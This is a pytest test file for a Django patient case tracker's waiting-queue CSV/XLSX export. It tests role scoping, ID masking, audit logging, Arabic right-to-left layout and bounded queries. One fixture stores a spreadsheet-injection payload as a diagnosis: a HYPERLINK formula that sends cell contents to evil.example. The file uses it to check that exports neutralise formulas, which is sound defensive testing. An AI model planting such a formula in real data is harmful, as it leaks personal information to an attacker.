"""The waiting queue as a CSV or XLSX download, from the queue page and the API: scoped as the
queue, formula-safe, logged as an export and as a read of personal data, the XLSX laid out for
Arabic names, the memory and the queries bounded whatever the length of the queue."""

import csv
import io
import json

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from casetracker.audit.models import Event
from patients.imports.queue_export import queue_export_response
from patients.imports.template import columns as template_columns
from tests import factories

pytestmark = pytest.mark.django_db

PAGE = reverse("patients:queue-export")
API = "/api/v1/patients/queue-export/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def read(response, fmt: str) -> list[list]:
    """The rows of a downloaded file, header first ("" for an empty XLSX cell)."""
    assert response.status_code == 200, response.content[:300]
    data = b"".join(response.streaming_content)
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def workbook(response):
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def by_key(table: list[list]) -> list[dict]:
    keys = [column.key for column in template_columns()]
    return [dict(zip(keys, row, strict=True)) for row in table[1:]]


def new_events(before: int) -> list[Event]:
    return list(Event.objects.filter(pk__gt=before).order_by("pk"))


def last_id() -> int:
    return Event.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


@pytest.fixture
def queue(facility, other_facility):
    """Two waiting cases at al-amal (the first with a companion and a formula for a diagnosis),
    one at nasser, one evacuated at al-amal."""
    first = factories.PatientFactory(
        facility=facility,
        priority="critical",
        name_latin="Huda Barhoum",
        name_arabic="هدى برهوم",
        national_id="400765432",
        diagnosis=FORMULA,
    )
    factories.CompanionFactory(patient=first, national_id="800111222", name_arabic="سلام خالد")
    factories.ReferralFactory(patient=first)
    second = factories.PatientFactory(facility=facility, national_id="400000002")
    elsewhere = factories.PatientFactory(facility=other_facility, national_id="400000003")
    factories.PatientFactory(facility=facility, status="evacuated", national_id="400000004")
    return first, second, elsewhere


# --- Who gets which rows ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_queue_export_coordinator_gets_every_waiting_case_in_queue_order(
    fmt, client, coordinator, queue
):
    client.force_login(coordinator)
    rows = by_key(read(client.get(PAGE, {"download": fmt}), fmt))
    assert rows[0]["national_id"] == "400765432"  # critical first
    assert sorted(row["national_id"] for row in rows) == ["400000002", "400000003", "400765432"]
    assert rows[0]["companion1_national_id"] == "800111222"
    assert rows[0]["name_arabic"] == "هدى برهوم"


def test_queue_export_nurse_gets_her_facility_only_with_ids_masked(client, nurse, queue):
    client.force_login(nurse)
    rows = by_key(read(client.get(PAGE, {"download": "csv"}), "csv"))
    assert [row["national_id"] for row in rows] == ["•••••5432", "•••••0002"]
    assert rows[0]["companion1_national_id"] == "•••••1222"
    # Hospital staff read the diagnosis of their own patients, as on the case's page.
    assert rows[0]["diagnosis"] == "'" + FORMULA


def test_queue_export_auditor_gets_no_diagnosis_and_masked_ids(api, auditor, queue):
    rows = by_key(read(api(auditor).get(API, {"download": "csv"}), "csv"))
    assert len(rows) == 3
    assert {row["diagnosis"] for row in rows} == {""}
    assert all(row["national_id"].startswith("•••••") for row in rows)


def test_queue_export_refused_to_anonymous_and_logs_nothing(client, api, queue):
    before = last_id()
    assert client.get(PAGE, {"download": "csv"}).status_code in (302, 403)
    assert api(None).get(API, {"download": "csv"}).status_code in (401, 403)
    assert new_events(before) == []


@pytest.mark.parametrize("query", [{}, {"download": "pdf"}, {"download": "CSV"}])
def test_queue_export_unknown_format_is_refused_naming_the_field(
    query, client, api, coordinator, queue
):
    before = last_id()
    response = api(coordinator).get(API, query)
    assert response.status_code == 400
    assert list(response.json()) == ["download"]
    client.force_login(coordinator)
    response = client.get(PAGE, query)
    assert response.status_code == 400
    assert b"download" in response.content
    assert new_events(before) == []


# --- Formulas -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_queue_export_neutralises_formulas(fmt, api, coordinator, queue):
    response = api(coordinator).get(API, {"download": fmt})
    if fmt == "xlsx":
        sheet = workbook(response)
        cells = [c for row in sheet.iter_rows() for c in row if c.value == "'" + FORMULA]
        assert len(cells) == 1 and cells[0].data_type == "s"
    else:
        assert by_key(read(response, fmt))[0]["diagnosis"] == "'" + FORMULA


# --- The audit log ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_queue_export_writes_an_export_event_and_an_access_event(fmt, client, nurse, queue):
    before = last_id()
    client.force_login(nurse)
    read(client.get(PAGE, {"download": fmt}), fmt)
    export, access = new_events(before)
    assert (export.subject_type, export.subject_ref, export.action) == (
        "report",
        "waiting-queue",
        "export",
    )
    assert export.details == {"format": fmt, "rows": 2, "filters": {}}
    assert export.actor == nurse and export.actor_facility_id == nurse.facility_id
    assert (access.subject_type, access.subject_ref, access.action) == ("patient", "list", "view")
    assert access.lane is not None  # the access log's lanes
    assert access.details == {
        "category": "clinical",
        "document": "queue_export",
        "format": fmt,
        "rows": 2,
        "national_id": "last_4_digits",
    }
    stored = json.dumps([export.details, access.details]) + export.reason_text + access.reason_text
    for personal in ("Huda", "هدى", "400765432", "5432", "800111222", "HYPERLINK"):
        assert personal not in stored


def test_queue_export_api_event_says_ids_were_whole_for_a_coordinator(api, coordinator, queue):
    before = last_id()
    read(api(coordinator).get(API, {"download": "xlsx"}), "xlsx")
    export, access = new_events(before)
    assert export.details["rows"] == 3
    assert access.details["national_id"] == "full"
    assert access.details["category"] == "clinical"


def test_queue_export_auditor_read_is_identity_not_clinical(api, auditor, queue):
    before = last_id()
    read(api(auditor).get(API, {"download": "csv"}), "csv")
    assert new_events(before)[1].details["category"] == "identity"


# --- The XLSX -----------------------------------------------------------------------------------


def test_queue_export_xlsx_layout_for_an_arabic_reader(client, nurse, queue):
    client.force_login(nurse)  # preferred_language="ar"
    sheet = workbook(client.get(PAGE, {"download": "xlsx"}))
    assert sheet.freeze_panes == "A2"
    assert sheet.sheet_view.rightToLeft is True
    header = [cell.value for cell in sheet[1]]
    assert header == [column.arabic for column in template_columns()]
    arabic = header.index("الاسم الكامل (عربي)")
    name = sheet.cell(row=2, column=arabic + 1)
    assert name.value == "هدى برهوم"
    assert (name.alignment.readingOrder, name.alignment.horizontal) == (2, "right")
    companion = sheet.cell(row=2, column=header.index("المرافق 1 الاسم (عربي)") + 1)
    assert companion.value == "سلام خالد" and companion.alignment.readingOrder == 2
    latin = sheet.cell(row=2, column=header.index("الاسم الكامل (لاتيني)") + 1)
    assert latin.alignment.readingOrder in (0, None)


def test_queue_export_xlsx_for_an_english_reader_reads_left_to_right(api, coordinator, queue):
    sheet = workbook(api(coordinator).get(API, {"download": "xlsx"}))
    assert sheet.freeze_panes == "A2"
    assert not sheet.sheet_view.rightToLeft
    assert [cell.value for cell in sheet[1]] == [c.english for c in template_columns()]


def test_queue_export_csv_headers_in_arabic_for_an_arabic_reader(client, nurse, queue):
    client.force_login(nurse)
    header = read(client.get(PAGE, {"download": "csv"}), "csv")[0]
    assert header == [column.arabic for column in template_columns()]


# --- Bounded: queries and memory ----------------------------------------------------------------


def _queries(user, patients: int, facility) -> int:
    for _ in range(patients):
        patient = factories.PatientFactory(facility=facility)
        factories.CompanionFactory(patient=patient)
        factories.ReferralFactory(patient=patient)
    with CaptureQueriesContext(connection) as captured:
        response = queue_export_response(user=user, fmt="csv", chunk_size=1000)
        b"".join(response.streaming_content)
    return len(captured)


def test_queue_export_queries_do_not_grow_with_the_queue(coordinator, facility):
    _queries(coordinator, 0, facility)  # the first read of the log opens its lanes
    few = _queries(coordinator, 3, facility)
    many = _queries(coordinator, 30, facility)
    assert many == few


def test_queue_export_reads_in_chunks(coordinator, facility, queue):
    """Three cases in chunks of one: each chunk is a query (and its prefetches), so a queue
    never sits in memory whole."""
    with CaptureQueriesContext(connection) as one_chunk:
        b"".join(queue_export_response(user=coordinator, fmt="csv").streaming_content)
    with CaptureQueriesContext(connection) as three_chunks:
        b"".join(queue_export_response(user=coordinator, fmt="csv", chunk_size=1).streaming_content)
    assert len(three_chunks) > len(one_chunk)


# --- The page's links ---------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["coordinator", "nurse", "auditor", "admin_user"])
def test_queue_page_links_to_both_downloads(who, request, client):
    client.force_login(request.getfixturevalue(who))
    html = client.get(reverse("patients:queue")).content.decode()
    for fmt in ("csv", "xlsx"):
        assert f'href="{PAGE}?download={fmt}" download' in html
